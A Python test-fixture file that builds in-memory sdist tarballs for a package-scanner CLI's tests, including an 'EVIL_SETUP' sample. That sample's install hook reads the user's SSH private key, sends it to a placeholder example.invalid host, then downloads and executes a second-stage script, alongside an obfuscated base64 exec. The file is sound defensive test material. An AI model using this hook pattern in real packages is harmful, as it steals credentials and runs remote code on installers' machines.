"""Inert packages for the scan CLI tests, built in memory (addresses are example.invalid)."""

from __future__ import annotations

import io
import tarfile

#: Inert stand-in for a credential stealer and dropper: every address is example.invalid.
EVIL_SETUP = b"""\
import base64
import os
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
        urllib.request.urlopen("https://example.invalid/collect", data=key.encode())
        payload = urllib.request.urlopen("https://example.invalid/stage2.py").read()
        exec(payload)


exec(base64.b64decode("cHJpbnQoJ2hlbGxvJyk="))
setup(name="evildemo", version="1.0", cmdclass={"install": PostInstall})
"""

BENIGN_SETUP = b"from setuptools import setup\n\nsetup(name='{name}', version='{version}')\n"


def sdist_bytes(name: str, version: str, setup_py: bytes | None = None) -> bytes:
    root = f"{name}-{version}"
    files = {
        f"{root}/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
        f"{root}/setup.py": setup_py
        or BENIGN_SETUP.replace(b"{name}", name.encode()).replace(b"{version}", version.encode()),
        f"{root}/{name}/__init__.py": b'"""A harmless module."""\n\nVALUE = 1\n',
    }
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for path, data in files.items():
            info = tarfile.TarInfo(path)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()
